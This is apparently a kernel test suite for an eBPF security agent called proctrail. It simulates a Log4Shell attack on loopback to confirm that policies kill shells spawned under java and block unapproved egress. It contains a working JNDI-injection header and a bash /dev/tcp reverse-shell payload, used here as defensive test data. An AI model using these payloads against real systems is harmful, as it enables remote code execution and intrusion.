/**
 * Prevention on the real kernel, with the Log4Shell scenario's parts: a real `proctrail agent
 * --policy`, a real java service exploited on loopback, real shells and connections.
 *
 * Every policy here is scoped to the lab cgroup (/proctrail-lab under the cgroup v2 root), and
 * only this test's java is put there: the shells and connects of other processes on this
 * shared host (other tests' java services included) are never selected.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { findCgroupV2Root } from '@proctrail/bpf';
import { kernelSkipReason } from '@proctrail/bpf/testing';
import type { ApiEvent } from '@proctrail/schema';
import { createApiClient, type ApiClient } from '../api/client';
import { startDirectoryStandIn, startShellListener } from '../demo/log4shell/attacker';
import { spawnJavaService, type JavaService } from '../demo/log4shell/java-service';
import { identify, stopProcessTree } from '../demo/log4shell/process-group';
import {
  collect,
  repoRoot,
  runCliProcess,
  startAgentProcess,
  type RunningAgent,
} from '../testing/agent-process';
import { scratchDir } from '../testing/harness';

const skip = kernelSkipReason();
const scratch = scratchDir();
const KILL_POLICY = join(repoRoot, 'apps/agent/policies/kill-shells-under-java.yaml');
const EGRESS_POLICY = join(repoRoot, 'apps/agent/policies/java-egress-allow-list.yaml');
const BACKEND = { host: '127.0.0.2', port: 8443 };

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

function labCgroup(): string {
  const dir = join(findCgroupV2Root(), 'proctrail-lab');
  mkdirSync(dir, { recursive: true });
  return dir;
}

/** The scenario's java service, in the lab cgroup before it receives any request. */
async function startLabJava(cgroup: string): Promise<{ service: JavaService; port: number }> {
  const service = spawnJavaService({ PATH: process.env.PATH, HOME: '/tmp', LANG: 'C.UTF-8' });
  writeFileSync(join(cgroup, 'cgroup.procs'), String(service.pid));
  return { service, port: await service.listening };
}

async function stopJava(service: JavaService): Promise<void> {
  const identity = identify(service.pid);
  if (identity) assert.deepEqual(await stopProcessTree(identity), []);
}

function request(port: number, lookup?: string): Promise<Response> {
  const headers: Record<string, string> = { 'User-Agent': 'curl/8.0' };
  if (lookup) headers['X-Api-Version'] = `\${jndi:ldap://${lookup}/Exploit}`;
  return fetch(`http://127.0.0.1:${port}/api/status`, {
    headers,
    signal: AbortSignal.timeout(15_000),
  });
}

/** Resolves true if `promise` settles within `ms`, false otherwise. */
async function within(promise: Promise<unknown>, ms: number): Promise<boolean> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<false>((resolve) => (timer = setTimeout(() => resolve(false), ms)));
  const settled = await Promise.race([promise.then(() => true), timeout]);
  clearTimeout(timer);
  return settled;
}

/** A stand-in backend that answers every lookup with a name and no command. */
async function startBackend(): Promise<{ server: Server; searches: string[] }> {
  const searches: string[] = [];
  const server = createServer((socket) => {
    socket.setEncoding('utf8');
    socket.once('data', (line: string) => {
      searches.push(line.trim());
      socket.end('factory: Backend\n\n');
    });
    socket.on('error', () => socket.destroy());
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(BACKEND.port, BACKEND.host, () => resolve());
  });
  return { server, searches };
}

/** Enforcement events stored so far: process_kprobe with a policy, tagged by the agent. */
async function enforcementEvents(client: ApiClient, policy: string): Promise<ApiEvent[]> {
  const found: ApiEvent[] = [];
  let cursor: number | undefined;
  for (let page = 0; page < 50; page++) {
    const result = await client.trpc.event.list.query({
      kinds: ['process_kprobe'],
      limit: 5000,
      cursor,
    });
    for (const item of result.items) {
      const body = (item.event as { process_kprobe?: { policy_name?: string } }).process_kprobe;
      if (body?.policy_name === policy) found.push(item);
    }
    if (result.nextCursor === null) break;
    cursor = result.nextCursor;
  }
  return found;
}

async function waitForEnforcement(client: ApiClient, policy: string): Promise<ApiEvent[]> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const events = await enforcementEvents(client, policy);
    if (events.length || Date.now() > deadline) return events;
    await sleep(250);
  }
}

type KprobeBody = {
  action?: string;
  policy_name?: string;
  message?: string;
  tags?: string[];
  function_name?: string;
  process?: { binary?: string; pid?: number };
  parent?: { binary?: string };
};
const kprobe = (event: ApiEvent) => (event.event as { process_kprobe: KprobeBody }).process_kprobe;

/** The ids of the BPF programs a process holds open (their fds' fdinfo names them). */
function programIdsOf(pid: number): number[] {
  const ids = new Set<number>();
  for (const fd of readdirSync(`/proc/${pid}/fdinfo`)) {
    try {
      const id = /^prog_id:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, 'utf8'));
      if (id) ids.add(Number(id[1]));
    } catch {
      // closed meanwhile
    }
  }
  return [...ids];
}

/** The ids of every BPF program loaded on the host. */
function loadedProgramIds(): Set<number> {
  const programs = JSON.parse(
    execFileSync('bpftool', ['prog', 'show', '-j'], { encoding: 'utf8' }),
  ) as { id: number }[];
  return new Set(programs.map((program) => program.id));
}

/** The process_kprobe events event.live streams, from the moment the subscription started. */
async function liveKprobes(client: ApiClient) {
  const received: ApiEvent[] = [];
  let started = false;
  const subscription = client.trpc.event.live.subscribe(
    { kinds: ['process_kprobe'] },
    {
      onStarted: () => (started = true),
      onData: (data) => received.push(data.data as ApiEvent),
    },
  );
  const deadline = Date.now() + 10_000;
  while (!started && Date.now() < deadline) await sleep(50);
  assert.ok(started, 'the live subscription started');
  return {
    unsubscribe: () => subscription.unsubscribe(),
    /** The first streamed event `test` accepts, waited for at most 10 s. */
    async waitFor(test: (event: ApiEvent) => boolean): Promise<ApiEvent> {
      const until = Date.now() + 10_000;
      for (;;) {
        const found = received.find(test);
        if (found) return found;
        assert.ok(Date.now() < until, `not streamed; received ${received.length} kprobe events`);
        await sleep(100);
      }
    },
  };
}

/** The value of one series of the agent's /metrics, 0 when it is absent. */
async function metricValue(url: string, series: string): Promise<number> {
  const text = await (await fetch(`${url}/metrics`)).text();
  const line = text.split('\n').find((l) => l.startsWith(`${series} `));
  return line ? Number(line.slice(series.length + 1)) : 0;
}

/**
 * Connects from a bash that is in the lab cgroup, as java is, but is not java: outside the
 * allow-list policy's scope. Resolves with bash's exit code (0 when the connect succeeded).
 */
async function connectFromLabBash(cgroup: string, port: number): Promise<number> {
  const script = `echo $$ > ${cgroup}/cgroup.procs && exec 3<>/dev/tcp/127.0.0.1/${port}`;
  const child = spawn('bash', ['-c', script], { stdio: 'ignore' });
  return new Promise((resolve, reject) => {
    child.once('error', reject);
    child.once('exit', (code, signal) => resolve(code ?? (signal ? 128 : 1)));
  });
}

async function stopAgent(agent: RunningAgent): Promise<void> {
  agent.child.kill('SIGTERM');
  const run = await collect(agent.child, 30_000);
  assert.equal(run.code, 0, `the agent stopped cleanly:\n${run.stderr}`);
}

describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, () => {
  let cgroup: string;
  before(() => {
    cgroup = labCgroup();
  });
  after(() => {
    // Fails while another run still uses the lab cgroup: it is left for that run.
    try {
      rmdirSync(cgroup);
    } catch {
      // in use
    }
    scratch.remove();
  });

  test('the reverse shell is killed at exec under java, which keeps serving', async () => {
    const agent = await startAgentProcess(scratch.db('kill.db'), ['--policy', KILL_POLICY]);
    const client = createApiClient({ url: agent.url });
    const live = await liveKprobes(client);
    const shell = await startShellListener(['id', 'exit'], { timeoutMs: 5_000 });
    const payload = `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`;
    const directory = await startDirectoryStandIn(payload);
    const { service, port } = await startLabJava(cgroup);
    try {
      const exploited = await request(port, `127.0.0.1:${directory.port}`);
      assert.equal(exploited.status, 200);
      await exploited.text();
      assert.ok(await within(directory.firstSearch, 10_000), 'java looked the payload up');
      assert.equal(await within(shell.connected, 3_000), false, 'no reverse shell connected');

      const again = await request(port);
      assert.equal(again.status, 200, 'java still serves');
      assert.equal(await again.text(), 'ok\n');

      const [killed, ...more] = await waitForEnforcement(client, 'kill-shells-under-java');
      assert.ok(killed, 'an enforcement event was stored');
      assert.deepEqual(more, [], 'one shell, one kill');
      const body = kprobe(killed);
      assert.equal(body.action, 'KPROBE_ACTION_SIGKILL');
      assert.equal(body.function_name, 'sched_process_exec');
      assert.match(body.process?.binary ?? '', /\/bash$/);
      assert.match(body.parent?.binary ?? '', /\/java$/);
      assert.match(body.message ?? '', /killed .*bash at exec/);

      const exits = await client.trpc.event.list.query({
        kinds: ['process_exit'],
        pid: body.process!.pid!,
      });
      const exit = exits.items.map((e) => e.event as { process_exit: { signal?: string } });
      assert.ok(
        exit.some((e) => e.process_exit.signal === 'SIGKILL'),
        'the shell exited by SIGKILL',
      );

      // Streamed over event.live (the WebSocket) as it was stored, with its store id.
      const streamed = await live.waitFor((e) => e.id === killed.id);
      assert.deepEqual(kprobe(streamed), body);

      const [listed] = await client.trpc.policy.list.query();
      assert.equal(listed?.name, 'kill-shells-under-java');
      assert.equal(listed?.mode, 'enforce');
      assert.equal(listed?.blocked, 1);
      const metrics = await (await fetch(`${agent.url}/metrics`)).text();
      assert.match(
        metrics,
        /proctrail_enforcements_total\{policy="kill-shells-under-java",action="KPROBE_ACTION_SIGKILL",outcome="blocked"\} 1/,
      );
    } finally {
      live.unsubscribe();
      await stopJava(service);
      await directory.close();
      await shell.close();
      await client.close();
      await stopAgent(agent);
    }
  });

  test('java may connect only to 127.0.0.2:8443; others are unaffected; stop restores', async () => {
    const directory = await startDirectoryStandIn('true');
    const backend = await startBackend();
    try {
      await egressTest(directory, backend);
    } finally {
      await directory.close();
      await new Promise((resolve) => backend.server.close(resolve));
    }
  });

  async function egressTest(
    directory: Awaited<ReturnType<typeof startDirectoryStandIn>>,
    backend: Awaited<ReturnType<typeof startBackend>>,
  ): Promise<void> {
    const agent = await startAgentProcess(scratch.db('egress.db'), ['--policy', EGRESS_POLICY]);
    const agentPrograms = programIdsOf(agent.child.pid!);
    const client = createApiClient({ url: agent.url });
    const { service, port } = await startLabJava(cgroup);
    try {
      assert.ok(agentPrograms.length >= 7, `the agent holds its programs: ${agentPrograms}`);
      await (await request(port, `127.0.0.1:${directory.port}`)).text();
      await (await request(port, `${BACKEND.host}:${BACKEND.port}`)).text();
      assert.deepEqual(directory.searches, [], 'the lookup to the directory never arrived');
      assert.deepEqual(backend.searches, ['search Exploit'], 'the allowed backend answered');
      const refusal = service.log.find((line) => line.includes(`:${directory.port}/`));
      assert.match(refusal ?? '', /lookup of .* failed: .*(Operation not permitted|refused)/);

      // A bash in the same lab cgroup is not java: the policy does not reach it, and the
      // refused destination answers it.
      assert.equal(await connectFromLabBash(cgroup, directory.port), 0, 'lab bash connected');

      // The test's own node is not java: the same destination answers it.
      await new Promise<void>((resolve, reject) => {
        const socket = connect(directory.port, '127.0.0.1', () => {
          socket.destroy();
          resolve();
        });
        socket.once('error', reject);
      });

      const [refused, ...more] = await waitForEnforcement(client, 'java-egress-allow-list');
      assert.ok(refused, 'an enforcement event was stored');
      assert.deepEqual(more, [], 'only the directory lookup was refused');
      const body = kprobe(refused);
      assert.equal(body.action, 'KPROBE_ACTION_OVERRIDE');
      assert.equal(body.process?.pid, service.pid);
      assert.match(
        body.message ?? '',
        new RegExp(`refused a connect to 127\\.0\\.0\\.1:${directory.port}`),
      );
      const series =
        'proctrail_enforcements_total{policy="java-egress-allow-list",action="KPROBE_ACTION_OVERRIDE",outcome="blocked"}';
      assert.equal(await metricValue(agent.url, series), 1, 'one refusal counted');
    } finally {
      await stopJava(service);
      await client.close();
      await stopAgent(agent);
    }

    // Nothing of the agent's stays in the kernel, and java connects where it was refused.
    // The kernel frees a detached program after a grace period: wait for it, bounded.
    const gone = Date.now() + 10_000;
    while (agentPrograms.some((id) => loadedProgramIds().has(id)) && Date.now() < gone) {
      await sleep(100);
    }
    const ids = loadedProgramIds();
    assert.deepEqual(
      agentPrograms.filter((id) => ids.has(id)),
      [],
      'no program of ours left',
    );
    const { service: free, port: freePort } = await startLabJava(cgroup);
    try {
      await (await request(freePort, `127.0.0.1:${directory.port}`)).text();
      assert.deepEqual(directory.searches, ['Exploit'], 'the lookup goes through again');
    } finally {
      await stopJava(free);
    }
  }

  test('in a dry run the shell runs, and the event says what would have been killed', async () => {
    const agent = await startAgentProcess(scratch.db('dry.db'), [
      '--policy',
      KILL_POLICY,
      '--policy-dry-run',
    ]);
    const client = createApiClient({ url: agent.url });
    const shell = await startShellListener(['exit'], { pauseMs: 100, timeoutMs: 10_000 });
    const directory = await startDirectoryStandIn(
      `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`,
    );
    const { service, port } = await startLabJava(cgroup);
    try {
      await (await request(port, `127.0.0.1:${directory.port}`)).text();
      assert.ok(await within(shell.connected, 10_000), 'the reverse shell connected');
      assert.equal((await shell.session).closedByShell, true);
      const events = await waitForEnforcement(client, 'kill-shells-under-java');
      assert.ok(events.length >= 1, 'the would-be kills were recorded');
      for (const event of events) {
        const body = kprobe(event);
        assert.equal(body.action, 'KPROBE_ACTION_POST');
        assert.deepEqual(body.tags, ['proctrail-prevention', 'dry-run']);
        assert.match(body.message ?? '', /^dry run: would have killed/);
      }
      const [listed] = await client.trpc.policy.list.query();
      assert.equal(listed?.mode, 'dry-run');
      assert.equal(listed?.blocked, 0);
      // Counted as stored: the store and the counter are updated by the same batch, so wait
      // (bounded) until they agree rather than read one ahead of the other.
      const prefix = 'proctrail_enforcements_total{policy="kill-shells-under-java"';
      const dryRunSeries = `${prefix},action="KPROBE_ACTION_POST",outcome="dry-run"}`;
      let counted = 0;
      let stored = events.length;
      for (let attempt = 0; attempt < 20; attempt++) {
        counted = await metricValue(agent.url, dryRunSeries);
        stored = (await enforcementEvents(client, 'kill-shells-under-java')).length;
        if (counted === stored) break;
        await sleep(250);
      }
      assert.equal(counted, stored, 'each would-be kill counted as dry-run');
      assert.equal(
        await metricValue(agent.url, `${prefix},action="KPROBE_ACTION_SIGKILL",outcome="blocked"}`),
        0,
        'nothing counted as blocked',
      );
    } finally {
      await stopJava(service);
      await directory.close();
      await shell.close();
      await client.close();
      await stopAgent(agent);
    }
  });

  test('an invalid policy file stops the agent before it loads anything, naming line and field', async () => {
    const file = join(scratch.dir, 'open-deny.yaml');
    writeFileSync(
      file,
      [
        'policies:',
        '  - name: no-shadow',
        '    title: nobody opens /etc/shadow',
        '    on: open',
        '    action: deny',
        '    match:',
        '      process:',
        '        binary: [cat]',
        '',
      ].join('\n'),
    );
    const run = await runCliProcess(['agent', '--db', scratch.db('bad.db'), '--policy', file]);
    assert.equal(run.code, 1);
    assert.match(run.stderr, new RegExp(`${file}:4: policies\\.0\\.on: no hook on this kernel`));
    const check = await runCliProcess(['policy', 'check', file]);
    assert.equal(check.code, 1);
    assert.match(check.stderr, new RegExp(`${file}:4: policies\\.0\\.on:`));
  });
});
